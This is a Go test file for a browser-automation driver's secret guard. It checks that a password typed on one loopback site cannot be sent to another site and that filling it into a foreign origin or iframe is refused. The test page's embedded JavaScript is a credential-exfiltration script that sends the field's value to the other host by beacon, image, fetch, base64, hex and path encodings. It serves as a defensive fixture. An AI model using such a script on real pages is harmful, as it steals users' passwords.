package driver

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/durable-browser/durable-browser/internal/netguard"
	"github.com/durable-browser/durable-browser/internal/redact"

	"github.com/durable-browser/durable-browser/contract"
)

// The secret holds characters each encoding spells differently.
const exfilSecret = "Sup3r-s3cret+pass/word=&x"

// secretSites are two loopback sites: A, the site the secret belongs to,
// and B, another. B records every request it receives, whole.
type secretSites struct {
	a, b *httptest.Server
	mu   sync.Mutex
	bGot []string // method, URI, headers and body of each request B received
	aGot []string // path and body of each request A received
}

func newSecretSites(t testing.TB) *secretSites {
	s := &secretSites{}
	s.b = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var hdr strings.Builder
		_ = r.Header.Write(&hdr)
		s.mu.Lock()
		s.bGot = append(s.bGot, r.Method+" "+r.RequestURI+"\n"+hdr.String()+"\n"+string(body))
		s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/login", "/frame":
			_, _ = w.Write([]byte(`<!doctype html><title>B</title><input type="password" aria-label="B password">`))
		default:
			_, _ = w.Write([]byte("ok"))
		}
	}))
	t.Cleanup(s.b.Close)
	_, bPort, _ := net.SplitHostPort(s.b.Listener.Addr().String())
	s.a = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		s.aGot = append(s.aGot, r.URL.Path+" "+string(body))
		s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/login":
			// The page copies the field into requests to B every way it
			// can; one request to B carries no secret, one to A does.
			fmt.Fprintf(w, `<!doctype html><title>A</title>
<input type="password" id="pw" aria-label="A password">
<button onclick="leak()">Send</button>
<iframe src="http://localhost:%[1]s/frame" title="B frame"></iframe>
<script>
const B = "http://127.0.0.1:%[1]s";
function leak() {
  const v = document.getElementById("pw").value;
  const img = () => new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = B + "/x?p=" + v; });
  navigator.sendBeacon(B + "/beacon", v);
  Promise.allSettled([
    img(),
    fetch(B + "/post", {method: "POST", mode: "no-cors", body: btoa(v)}),
    fetch(B + "/json", {method: "POST", mode: "no-cors", body: JSON.stringify({p: v})}),
    fetch(B + "/path/" + encodeURIComponent(v)),
    fetch(B + "/blob", {method: "POST", mode: "no-cors", body: new Blob(["p=", v])}),
    fetch(B + "/hex?h=" + Array.from(new TextEncoder().encode(v)).map(c => c.toString(16).padStart(2, "0")).join("")),
    fetch(B + "/benign"),
    fetch("/own", {method: "POST", body: v}),
  ]).then(() => fetch("/done"));
}
</script>`, bPort)
		default:
			_, _ = w.Write([]byte("ok"))
		}
	}))
	t.Cleanup(s.a.Close)
	return s
}

func (s *secretSites) saw(got *[]string, prefix string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, g := range *got {
		if strings.HasPrefix(g, prefix) {
			return true
		}
	}
	return false
}

// spellings are the secret's forms a test looks for, written out here
// rather than taken from the code under test.
func spellingsOf(v string) []string {
	b := []byte(v)
	return []string{
		v, url.QueryEscape(v), url.PathEscape(v), strings.ReplaceAll(url.QueryEscape(v), "+", "%20"),
		base64.StdEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b),
		hex.EncodeToString(b), "Sup3r-s3cret",
	}
}

func secretActs(t *testing.T, js string, secrets ...redact.Secret) []Action {
	t.Helper()
	acts, err := ParseActions(json.RawMessage(js))
	if err != nil {
		t.Fatal(err)
	}
	acts[0].Secrets = secrets
	return acts
}

// A secret typed into site A's page does not leave toward site B, in any
// spelling or by any kind of request, while A still gets it and B still
// gets the page's other requests; the run lists each blocked request with
// rule secret and the secret's name.
func TestSecretStaysWithItsOrigin(t *testing.T) {
	s := newSecretSites(t)
	b := attach(t, Options{Reach: &netguard.Policy{AllowLoopback: true}, GuardSecrets: true})
	pw := redact.Secret{Name: "PW", Value: exfilSecret, Origins: []string{redact.OriginOf(s.a.URL)}}

	gotoPage(t, b, s.a.URL+"/login")
	sn := snap(t, b, SnapshotOptions{})
	field := idOf(t, sn.Text, "A password")
	res, err := b.Run(ctxT(t), secretActs(t, fmt.Sprintf(`[{"op":"fill","id":%q,"value":%q}]`, field, exfilSecret), pw), RunOptions{})
	if err != nil {
		t.Fatalf("fill into the secret's own origin: %v", err)
	}
	blocked := res.Blocked
	blocked = append(blocked, mustRun(t, b, fmt.Sprintf(`[{"op":"click","id":%q}]`, idOf(t, sn.Text, `button "Send"`))).Blocked...)
	eventually(t, "the page's requests to settle", func() bool {
		blocked = append(blocked, mustRun(t, b, `[{"op":"wait","ms":1}]`).Blocked...)
		// Every request is either blocked or reached B (the beacon, sent
		// on its own, may come after the page's /done).
		return s.saw(&s.aGot, "/done") && countRule(blocked, RuleSecret)+s.bLeaks() >= 7
	})
	if !s.saw(&s.aGot, "/own "+exfilSecret) {
		t.Fatalf("site A did not get the secret it owns: %q", s.aGot)
	}
	if !s.saw(&s.bGot, "GET /benign") {
		t.Fatalf("site B did not get the request without the secret: %q", s.bGot)
	}
	if n := s.bLeaks(); n > 0 {
		t.Errorf("site B received the secret in %d requests: %q", n, s.bGot)
	}
	for _, br := range blocked {
		if br.Rule != RuleSecret {
			t.Errorf("blocked by %s: %+v", br.Rule, br)
			continue
		}
		if br.Secret != "PW" || br.Origin != s.b.URL {
			t.Errorf("blocked = %+v", br)
		}
	}
	if n := countRule(blocked, RuleSecret); n < 7 {
		t.Fatalf("%d requests blocked, want the image, beacon, 2 posts, path, blob and hex: %+v", n, blocked)
	}
	if got := b.TypedSecrets(); len(got) != 1 || got[0] != "PW" {
		t.Fatalf("typed secrets %v", got)
	}
}

// bLeaks counts the requests B received that hold the secret in any
// spelling.
func (s *secretSites) bLeaks() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, got := range s.bGot {
		for _, sp := range spellingsOf(exfilSecret) {
			if strings.Contains(got, sp) {
				n++
				break
			}
		}
	}
	return n
}

func countRule(bs []contract.BlockedRequest, rule string) int {
	n := 0
	for _, b := range bs {
		if b.Rule == rule {
			n++
		}
	}
	return n
}

// A secret is not typed into a page, or a frame, of another origin: the
// fill is refused naming that origin and the secret, and nothing is typed.
func TestSecretRefusedElsewhere(t *testing.T) {
	s := newSecretSites(t)
	b := attach(t, Options{Reach: &netguard.Policy{AllowLoopback: true}, GuardSecrets: true})
	pw := redact.Secret{Name: "PW", Value: exfilSecret, Origins: []string{redact.OriginOf(s.a.URL)}}
	_, bPort, _ := net.SplitHostPort(s.b.Listener.Addr().String())

	for _, tc := range []struct{ page, label, origin string }{
		{s.b.URL + "/login", "B password", s.b.URL},
		{s.a.URL + "/login", "B password", "http://localhost:" + bPort}, // B's frame inside A's page
	} {
		gotoPage(t, b, tc.page)
		sn := snap(t, b, SnapshotOptions{})
		field := idOf(t, sn.Text, tc.label)
		res, err := b.Run(ctxT(t), secretActs(t, fmt.Sprintf(`[{"op":"fill","id":%q,"value":%q}]`, field, exfilSecret), pw), RunOptions{})
		var ae *ActionError
		if !errors.As(err, &ae) || ae.Kind != KindRefused || res == nil || res.Completed != 0 {
			t.Fatalf("%s: fill = %v, want refused", tc.page, err)
		}
		if msg := err.Error(); !strings.Contains(msg, tc.origin+":") || !strings.Contains(msg, "PW") || strings.Contains(msg, exfilSecret) {
			t.Fatalf("%s: refusal %q should name %s and PW", tc.page, msg, tc.origin)
		}
		after := snap(t, b, SnapshotOptions{})
		if strings.Contains(after.Text, "Sup3r") {
			t.Fatalf("the secret was typed: %s", after.Text)
		}
	}
	if got := b.TypedSecrets(); len(got) != 0 {
		t.Fatalf("a refused fill armed the guard: %v", got)
	}
}
